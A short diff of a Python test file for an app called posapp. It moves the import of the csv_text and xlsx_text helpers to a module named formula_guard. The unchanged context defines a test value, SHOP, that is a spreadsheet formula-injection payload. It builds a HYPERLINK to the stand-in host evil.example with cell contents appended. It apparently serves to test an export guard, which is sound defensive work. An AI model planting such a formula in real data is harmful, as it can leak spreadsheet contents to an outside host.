@@ -6,7 +6,7 @@ import openpyxl
 import pytest
 
 from posapp.extensions import db
-from posapp.reports.formula_guard import csv_text, xlsx_text
+from posapp.formula_guard import csv_text, xlsx_text
 from posapp.shop.service import save_settings
 
 SHOP = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
